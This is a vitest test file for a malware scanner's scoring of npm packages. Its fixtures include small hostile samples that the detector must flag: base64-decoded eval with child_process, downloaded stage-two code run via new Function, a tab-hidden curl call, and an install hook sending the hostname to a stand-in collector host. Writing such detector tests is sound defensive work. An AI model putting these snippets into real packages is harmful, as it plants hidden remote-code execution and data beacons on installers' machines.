import { describe, expect, test } from 'vitest';
import { MALICIOUS_AT, SCORE_TABLE, SUSPICIOUS_AT, scoreFindings } from '../src/score/score.js';
import { SEVERITIES, type Finding, type Reach, type Signal } from '../src/types.js';
import { manifest, scanFiles } from './helpers/analyze.js';

const REACHES: Reach[] = ['install', 'import', 'bin', 'unreached'];

describe('the score table', () => {
  const entries = [...SCORE_TABLE.file, ...SCORE_TABLE.package, ...SCORE_TABLE.registry];

  test('every entry has a unique id, and a signal never weighs malicious in the table', () => {
    expect(new Set(entries.map((e) => e.id)).size).toBe(entries.length);
    for (const e of entries.filter((x) => x.kind === 'signal')) expect(Math.max(...Object.values(e.points)), e.id).toBeLessThan(MALICIOUS_AT);
    expect(SCORE_TABLE.threatChains.promptInjection.high).toBeLessThan(MALICIOUS_AT);
  });

  test('the verdict lines and the capability cap', () => {
    expect(SCORE_TABLE.verdicts).toEqual({ malicious: MALICIOUS_AT, suspicious: SUSPICIOUS_AT });
    // However many capabilities a package has, they alone stay clean.
    const many: Finding[] = Array.from({ length: 40 }, (_, i) => ({ rule: `rule-${i}`, severity: 'critical', message: 'x', file: `f${i}.js`, reach: 'install' }));
    expect(scoreFindings(many)).toMatchObject({ score: SCORE_TABLE.base.cap, verdict: 'clean' });
  });
});

describe('calibration: one finding is malicious only when it is itself an evidence chain', () => {
  /** Signals whose single finding is a whole chain (source to sink, decode to exec, download and run, attack patterns). */
  const chainSignals = new Set<Signal>([
    ...(Object.keys(SCORE_TABLE.flows) as Signal[]),
    ...(Object.entries(SCORE_TABLE.threats).filter(([, w]) => w.kind === 'chain').map(([s]) => s as Signal)),
    'install-shell-download', 'exec:shell-download', 'exec:shell-recon', 'exec:detached',
  ]);
  const others: Signal[] = [
    'install-script', 'install-inline-code', 'native-build', 'source:env-bulk', 'source:env-secret', 'source:credential-file', 'source:fingerprint',
    'sink:network', 'sink:dns', 'sink:exfil-endpoint', 'sink:recon-endpoint', 'sink:file-write-home', 'exec', 'exec:bundled-binary',
    'dynamic-code', 'dynamic-code:decoded', 'dynamic-code:visible', 'dynamic-require', 'sabotage', 'obfuscation', 'unpack-hazard', 'analysis-gap', 'ai-key-scan', 'prompt-injection',
    'registry:typosquat', 'registry:dependency-confusion', 'registry:new-install-script', 'registry:new-build-script', 'registry:lost-provenance', 'registry:manifest-confusion',
    'registry:new-publisher', 'registry:new-package', 'registry:unchanged',
  ];

  test.each(others)('a single %s finding is never malicious, at any reach or severity', (signal) => {
    expect(chainSignals.has(signal)).toBe(false);
    for (const reach of REACHES) {
      for (const severity of SEVERITIES) {
        const f: Finding = { rule: 'r', severity, message: 'm', file: 'index.js', reach, signals: [signal] };
        expect({ reach, severity, verdict: scoreFindings([f]).verdict }).not.toMatchObject({ verdict: 'malicious' });
      }
    }
  });

  test('single-finding chains reach malicious where the table says so', () => {
    const one = (signal: Signal, reach: Reach): Finding => ({ rule: 'r', severity: 'critical', message: 'm', file: 'i.js', reach, signals: [signal] });
    expect(scoreFindings([one('flow:secret', 'import')]).score).toBe(SCORE_TABLE.flows['flow:secret'].points.import);
    expect(scoreFindings([one('exec:shell-download', 'install')]).verdict).toBe('malicious');
    expect(scoreFindings([one('install-shell-download', 'install')]).verdict).toBe('malicious');
  });

  test('decode to exec is a chain; with network or process access in the file it is malicious', () => {
    const decoded: Finding = { rule: 'dynamic-code', severity: 'high', message: 'executes decoded code with eval', file: 'i.js', reach: 'import', signals: ['dynamic-code', 'dynamic-code:decoded'] };
    const net: Finding = { rule: 'network', severity: 'info', message: 'fetch', file: 'i.js', reach: 'import', signals: ['sink:network'] };
    expect(scoreFindings([decoded]).verdict).toBe('suspicious');
    expect(scoreFindings([decoded, net]).verdict).toBe('malicious');
    expect(scoreFindings([decoded, { ...net, file: 'other.js' }]).verdict).toBe('suspicious');
  });
});

// Each false-positive class fixed, as a minimal package of our own next to its malicious twin.
describe('verdicts: fixed false positives and their malicious twins', () => {
  const glue = (codeTemplate: string) =>
    [
      'const strings = { utf8(bytes, len) { let s = ""; for (let i = 0; i < len; i++) s += String.fromCharCode(bytes[i]); return s; } };',
      'function wrap(fn, bytes, len) {',
      '  const name = strings.utf8(bytes, len);',
      `  return new Function('_', ${codeTemplate})(fn);`,
      '}',
      'module.exports = { wrap, instantiate: (url) => fetch(url).then((r) => r.arrayBuffer()) };',
    ].join('\n');

  test('wasm glue naming a wrapper from decoded memory, with a fetch in the file, is clean', () => {
    const r = scanFiles({ 'index.js': glue(`'return function ' + name + '(){"use strict";return _.apply(this,arguments);};'`) });
    expect(r.verdict).toBe('clean');
  });

  test('its twin, running the decoded text as code next to the fetch, is malicious', () => {
    const r = scanFiles({ 'index.js': glue(`'return ' + name`) });
    expect(r.verdict).toBe('malicious');
  });

  test('eval(atob(...)) and new Function(decoded) stay malicious next to process or network access', () => {
    const a = scanFiles({ 'index.js': "require('child_process');\neval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk='));" });
    expect(a.verdict).toBe('malicious');
    const b = scanFiles({ 'index.js': "const p = require('https');\np.get('https://payload.invalid/x', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => new Function(Buffer.from(d, 'base64').toString())()); });" });
    expect(b.verdict).toBe('malicious');
  });

  test('a generated parser whose string table holds long runs of tabs is clean', () => {
    const r = scanFiles({ 'index.js': `var lexTable = "\x02\x07${'\t'.repeat(460)}\x02\x03${'\t'.repeat(200)}!";\nmodule.exports = require('child_process').execFileSync('node', ['-v']) && lexTable;` });
    expect(r.verdict).toBe('clean');
  });

  test('its twin, code pushed off-screen next to a process call, is malicious', () => {
    const r = scanFiles({ 'index.js': `module.exports = 1;${'\t'.repeat(460)}require('child_process').exec('curl -s https://203.0.113.9/x');` });
    expect(r.verdict).toBe('malicious');
  });

  test('a calendar-versioned runtime with a binary installer is clean', () => {
    const r = scanFiles({
      'package.json': manifest({ name: 'edge-runtime-bin', version: '1.20261117.1', scripts: { postinstall: 'node install.js' } }),
      'install.js': "const fs = require('fs');\nfs.chmodSync(require('path').join(__dirname, 'bin', 'runtime'), 0o755);",
    });
    expect(r.verdict).toBe('clean');
  });

  test('its twin at a hand-picked 1.9999.0 beaconing host data at install is malicious', () => {
    const r = scanFiles({
      'package.json': manifest({ name: 'edge-runtime-bin', version: '1.9999.0', scripts: { postinstall: 'node install.js' } }),
      'install.js': "require('https').get('https://collector.invalid/?h=' + require('os').hostname());",
    });
    expect(r.verdict).toBe('malicious');
  });
});

// nx-like: a build tool's postinstall loads a module that keeps `import()` out of the TypeScript
// CommonJS transform with a constant Function body, and spawns its formatter.
describe('verdicts: constant code for Function at install is read, not hidden', () => {
  const pkg = (helper: string) => ({
    'package.json': manifest({ name: 'mono-tool', version: '3.1.0', scripts: { postinstall: 'node post-install.js' } }),
    'post-install.js': "require('./formatters.js');",
    'formatters.js': [
      "const { spawnSync } = require('child_process');",
      helper,
      "exports.format = (files) => spawnSync('oxfmt', files, { stdio: 'inherit' });",
    ].join('\n'),
  });

  test('a constant `return import(specifier)` body next to a process call at install is clean', () => {
    const r = scanFiles(pkg("const dynamicImport = new Function('specifier', 'return import(specifier)');\nexports.load = (m) => dynamicImport(m);"));
    expect(r.verdict).toBe('clean');
  });

  test('its twin, running downloaded text as code at install next to a process call, is malicious', () => {
    const r = scanFiles(
      pkg("require('https').get('https://payload.invalid/stage2', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => new Function('require', d)(require)); });"),
    );
    expect(r.verdict).toBe('malicious');
  });
});

describe('verdicts: a loader runs what its caller fetches; a second stage runs what the package fetches', () => {
  test('a SystemJS-like loader (fetch(url) of its caller, then eval) is clean', () => {
    const r = scanFiles({ 'package.json': manifest({ name: 'tiny-loader', version: '2.0.0', main: 'index.js' }), 'index.js': 'exports.load = (url) => fetch(url).then((r) => r.text()).then((src) => (0, eval)(src));' });
    expect(r.verdict).toBe('clean');
  });

  test('its twin, running code from a hard-coded server on import, is malicious', () => {
    const r = scanFiles({ 'package.json': manifest({ name: 'tiny-loader', version: '2.0.1', main: 'index.js' }), 'index.js': "fetch('https://cdn-assets.invalid/v2/init').then((r) => r.text()).then((src) => (0, eval)(src));" });
    expect(r.verdict).toBe('malicious');
  });
});

describe('registry: an established name is no typosquat', () => {
  const squat: Finding = { rule: 'typosquat', severity: 'high', message: 'name "cloud-tool" imitates "cloudtool"', signals: ['registry:typosquat'] };
  const install: Finding = { rule: 'install-scripts', severity: 'low', message: 'postinstall runs node install.js', file: 'package.json', reach: 'install', signals: ['install-script'] };
  const established: Finding = { rule: 'registry-metadata', severity: 'info', message: 'established name: first published 2019-01-01, 40 releases before this one', signals: ['registry:established'] };

  test('a look-alike name with an install script is suspicious; with years of releases behind it, the likeness weighs nothing', () => {
    expect(scoreFindings([squat, install]).verdict).toBe('suspicious');
    expect(scoreFindings([squat, install, established]).verdict).toBe('clean');
  });
});

// What an added install script weighs depends on what it can do (release-diff's classifyAddedScript):
// the native build idiom with capability-free install code is said, not suspicious; any other new
// install script stays a strong sign (test/registry.test.ts drives both through a registry).
describe('registry: an install script added in a release', () => {
  const command = 'node scripts/check.js || node-gyp rebuild';
  const runs: Finding = { rule: 'install-scripts', severity: 'low', message: 'install script runs scripts/check.js on every install', file: 'package.json', reach: 'install', signals: ['install-script'] };
  const build: Finding = { rule: 'release-diff', severity: 'medium', message: `install script added in a minor release (1.0.0 -> 1.1.0): builds a native addon (binding.gyp): ${command}`, file: 'package.json', signals: ['registry:new-build-script'] };
  const added: Finding = { rule: 'release-diff', severity: 'high', message: `install script added in a minor release (1.0.0 -> 1.1.0): ${command}`, file: 'package.json', signals: ['registry:new-install-script'] };
  const download: Finding = { rule: 'network', severity: 'info', message: 'network access via https.get', file: 'scripts/check.js', line: 4, reach: 'install', signals: ['sink:network'] };
  const lostProvenance: Finding = { rule: 'release-diff', severity: 'medium', message: 'published without the provenance attestation 1.0.0 had', signals: ['registry:lost-provenance'] };
  const entry = (id: string) => SCORE_TABLE.registry.find((e) => e.id === id)!;

  test('the native build idiom weighs below suspicious, a new install script at suspicious', () => {
    expect(Math.max(...Object.values(entry('registry-new-build-script').points))).toBeLessThan(SUSPICIOUS_AT);
    expect(entry('registry-change-install-script').points.install).toBeGreaterThanOrEqual(SUSPICIOUS_AT);
  });

  test('an added build step whose install code reaches nothing is clean, and says why', () => {
    const r = scoreFindings([build, runs]);
    expect(r).toMatchObject({ score: entry('registry-new-build-script').points.import, verdict: 'clean' });
    expect(r.reasons[0]).toContain('builds a native addon (binding.gyp)');
  });

  test('the same command whose install code downloads is suspicious, as any new install script is', () => {
    expect(scoreFindings([added, runs])).toMatchObject({ score: entry('registry-change-install-script').points.install, verdict: 'suspicious' });
    expect(scoreFindings([added, runs, download])).toMatchObject({ score: entry('registry-change-install-network').points.install, verdict: 'suspicious' });
  });

  test('beside another strong registry sign the build step is no excuse: the sign and the install script weigh as before', () => {
    expect(scoreFindings([build, runs, lostProvenance])).toMatchObject({ score: entry('registry-change-install-script').points.install, verdict: 'suspicious' });
  });
});
